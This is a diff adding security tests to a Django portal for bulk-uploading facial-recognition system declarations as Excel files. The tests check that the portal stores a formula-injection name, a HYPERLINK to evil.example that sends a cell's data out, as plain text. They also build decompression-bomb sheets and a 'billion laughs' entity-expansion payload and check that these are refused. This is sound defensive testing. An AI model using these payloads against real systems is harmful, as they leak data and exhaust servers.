@@ -108,6 +108,48 @@ def test_the_template_has_both_languages_headers_an_example_row_and_instructions
     assert "The system name is the key of each row" in instructions
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
+
+
+def test_a_name_like_a_formula_is_written_into_the_template_as_text_and_round_trips(filer, member):
+    """Issue 30: the name was written as a live formula, and the portal refused its own template."""
+    system = obligations.declare_system(
+        member.organization,
+        member.user,
+        name=FORMULA_NAME,
+        people_stored=5_000,
+        used_in_public_place=False,
+        count_reached_on=date(2026, 1, 5),
+    )
+    content = filer.get(url("system_bulk_template", member)).content
+    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    assert "<f " not in sheet_xml
+    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A3"]
+    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
+    rows, _columns = bulk_declarations.read_rows(content)
+    assert [row.values["name"] for row in rows] == [FORMULA_NAME]
+    # Uploaded again as it came: the row is the same system, unchanged, and nothing is refused.
+    html = upload(filer, member, SimpleUploadedFile("t.xlsx", content)).content.decode()
+    assert "不接受公式" not in html
+    assert "该文件没有任何变化，无需确认" in html
+    # With a new number, it updates that system and keeps its name.
+    obligations.declare_system(
+        member.organization,
+        member.user,
+        name=FORMULA_NAME,
+        people_stored=7_000,
+        used_in_public_place=False,
+        count_reached_on=date(2026, 1, 5),
+        system=system,
+    )
+    response = upload(filer, member, SimpleUploadedFile("t.xlsx", content))
+    confirm(filer, member, token_of(response))
+    system.refresh_from_db()
+    assert (system.name, system.people_stored) == (FORMULA_NAME, 5_000)
+    assert member.organization.systems.count() == 1
+
+
 def test_a_valid_file_is_previewed_and_saved_only_when_confirmed(filer, member):
     response = upload(filer, member, xlsx(VALID))
     assert response.status_code == 200
@@ -453,3 +495,190 @@ def test_declare_systems_saves_all_rows_or_none(member, monkeypatch):
     assert not RecognitionSystem.objects.exists()
     assert not SystemDeclaration.objects.exists()
     assert not Obligation.objects.exists()
+
+
+# --- Files built to take the web worker down (issue 30) -------------------------------------------
+
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+
+
+def with_sheet(sheet_data: bytes) -> bytes:
+    """A workbook made by openpyxl whose systems sheet is replaced by ``sheet_data`` (the inside
+    of ``<sheetData>``), zipped as Excel zips it."""
+    workbook = Workbook()
+    workbook.active.title = bulk_declarations.SHEET_TITLE
+    workbook.active.append(HEADERS)
+    output = io.BytesIO()
+    workbook.save(output)
+    source = zipfile.ZipFile(io.BytesIO(output.getvalue()))
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                opening = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
+                data = opening.encode() + sheet_data + b"</sheetData></worksheet>"
+            zipped.writestr(item.filename, data)
+    return archive.getvalue()
+
+
+def timed_upload(client, member, content: bytes) -> tuple[str, float, float]:
+    """The page's text, the seconds the upload took and the peak of memory it allocated (MB)."""
+    import time
+    import tracemalloc
+
+    started = time.perf_counter()
+    html = refused(client, member, SimpleUploadedFile("systems.xlsx", content))
+    seconds = time.perf_counter() - started
+    tracemalloc.start()
+    try:
+        refused(client, member, SimpleUploadedFile("systems.xlsx", content))
+        peak = tracemalloc.get_traced_memory()[1] / 1e6
+    finally:
+        tracemalloc.stop()
+    return html, seconds, peak
+
+
+def test_one_row_of_14_5_million_empty_cells_is_refused_at_once(filer, member):
+    """58 KB zipped: openpyxl ran 30 s and grew the worker to 1 GB before the row cap applied."""
+    content = with_sheet(b'<row r="1">' + b"<c/>" * 14_500_000 + b"</row>")
+    assert len(content) < 70_000
+    html, seconds, peak = timed_upload(filer, member, content)
+    assert "该工作簿解压后过大" in html
+    assert seconds < 2, seconds
+    assert peak < 100, peak
+
+
+def test_three_million_empty_rows_are_refused_at_once(filer, member):
+    """28 KB zipped: 7.4 s and 250 MB before."""
+    content = with_sheet(b"<row/>" * 3_000_000)
+    assert len(content) < 40_000
+    html, seconds, peak = timed_upload(filer, member, content)
+    assert "该工作簿解压后过大" in html
+    assert seconds < 2, seconds
+    assert peak < 100, peak
+
+
+def test_the_cells_are_counted_as_the_sheet_is_read_with_a_hard_stop(filer, member):
+    """Small enough unpacked to be read, too many cells to be a file of systems: the reader stops
+    at the first cell past the limit, whatever follows."""
+    limit = bulk_declarations.MAX_CELLS
+    header = b"".join(
+        b'<c t="inlineStr"><is><t>%s</t></is></c>' % column.header.encode()
+        for column in bulk_declarations.COLUMNS
+    )
+    content = with_sheet(
+        b'<row r="1">' + header + b'</row><row r="2">' + b"<c/>" * (limit + 10) + b"</row>"
+    )
+    html, seconds, peak = timed_upload(filer, member, content)
+    assert "单元格超过 40,000 个" in html
+    assert seconds < 2, seconds
+
+
+def test_the_rows_are_counted_as_the_sheet_is_read_with_a_hard_stop(filer, member):
+    content = with_sheet(b"<row/>" * (bulk_declarations.MAX_LINES + 10))
+    html, seconds, _peak = timed_upload(filer, member, content)
+    assert "文件中的系统超过 5000 个" in html
+    assert seconds < 2, seconds
+    # A row numbered past the limit is not preceded by the empty rows it implies.
+    far = with_sheet(b'<row r="1"><c/></row><row r="1048576"><c/></row>')
+    assert "文件中的系统超过 5000 个" in refused(filer, member, SimpleUploadedFile("a.xlsx", far))
+
+
+def test_a_document_type_in_a_part_is_refused(filer, member):
+    """Entity expansion ("billion laughs") has no place in a workbook."""
+    laughs = (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
+    )
+    source = zipfile.ZipFile(io.BytesIO(with_sheet(b"")))
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as zipped:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = laughs + data.split(b"?>", 1)[1].replace(
+                    b"<sheetData>", b"<sheetData>&lol2;"
+                )
+            zipped.writestr(item.filename, data)
+    assert "无法读取该文件" in refused(
+        filer, member, SimpleUploadedFile("a.xlsx", archive.getvalue())
+    )
+
+
+EXCEL_PARTS = {
+    "[Content_Types].xml": (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="xml" ContentType="application/xml"/></Types>'
+    ),
+    "xl/workbook.xml": (
+        f'<x:workbook xmlns:x="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships"><x:workbookPr/><x:sheets>'
+        '<x:sheet name="说明 Instructions" sheetId="2" r:id="rId2"/>'
+        '<x:sheet name="系统 Systems" sheetId="1" r:id="rId1"/></x:sheets></x:workbook>'
+    ),
+    "xl/_rels/workbook.xml.rels": (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="worksheet" Target="worksheets/systems.xml"/>'
+        '<Relationship Id="rId2" Type="worksheet" Target="/xl/worksheets/notes.xml"/>'
+        "</Relationships>"
+    ),
+    "xl/sharedStrings.xml": (
+        f'<sst xmlns="{MAIN}" count="7" uniqueCount="7">'
+        "<si><t>系统名称\nSystem name</t></si>"
+        "<si><t>存储人脸信息的人数\nPeople whose facial information is stored</t></si>"
+        "<si><t>是否在公共场所使用\nUsed in a public place</t></si>"
+        "<si><t>达到该人数的日期\nDate that number was reached</t></si>"
+        # Rich text in two runs, with a pronunciation guide that is not part of the text.
+        "<si><r><t>前台</t></r><r><rPr><b/></rPr><t>闸机</t></r>"
+        "<rPh sb='0' eb='2'><t>QIANTAI</t></rPh></si>"
+        "<si><t>是</t></si><si><t>说明</t></si></sst>"
+    ),
+    "xl/styles.xml": (
+        f'<styleSheet xmlns="{MAIN}"><numFmts count="1">'
+        '<numFmt numFmtId="170" formatCode="yyyy/m/d;@"/></numFmts>'
+        '<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="170"/><xf numFmtId="14"/>'
+        "</cellXfs></styleSheet>"
+    ),
+    "xl/worksheets/systems.xml": (
+        f'<worksheet xmlns="{MAIN}"><dimension ref="A1:D3"/><sheetData>'
+        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
+        '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>'
+        '<row r="2"><c r="A2" t="s"><v>4</v></c><c r="B2"><v>12000</v></c>'
+        '<c r="C2" t="b"><v>1</v></c><c r="D2" s="1"><v>46024</v></c></row>'
+        '<row r="4"><c r="A4" t="inlineStr"><is><t>员工考勤</t></is></c><c r="B4"><v>8E2</v></c>'
+        '<c r="C4" t="s"><v>5</v></c><c r="D4" s="2"><v>46027</v></c>'
+        '<c r="AZ4"><v>1</v></c></row></sheetData></worksheet>'
+    ),
+    "xl/worksheets/notes.xml": (
+        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c t="s"><v>6</v></c></row>'
+        "</sheetData></worksheet>"
+    ),
+}
+
+
+def test_a_workbook_as_excel_writes_it_is_read(filer, member):
+    """Shared strings (rich text, a pronunciation guide), dates by their number format, booleans,
+    numbers in exponent form, a skipped row, a cell past the columns read, prefixed names, and the
+    systems sheet found by its name wherever it is."""
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
+        for name, text in EXCEL_PARTS.items():
+            zipped.writestr(name, text)
+    response = upload(filer, member, SimpleUploadedFile("excel.xlsx", archive.getvalue()))
+    confirm(filer, member, token_of(response))
+    systems = RecognitionSystem.objects.order_by("name")
+    assert [
+        (s.name, s.people_stored, s.used_in_public_place, s.count_reached_on) for s in systems
+    ] == [
+        ("前台闸机", 12_000, True, date(2026, 1, 2)),
+        ("员工考勤", 800, True, date(2026, 1, 5)),
+    ]
+
+
+def test_reading_stops_at_its_time_limit_whatever_the_file_holds(filer, member, monkeypatch):
+    """The last stop: past READ_SECONDS the reader gives up, so no file holds a worker longer."""
+    monkeypatch.setattr(bulk_declarations, "READ_SECONDS", 0)
+    content = with_sheet(b'<row r="1">' + b"<x/>" * 10_000 + b"</row>")
+    assert "该工作簿解压后过大" in refused(filer, member, SimpleUploadedFile("a.xlsx", content))
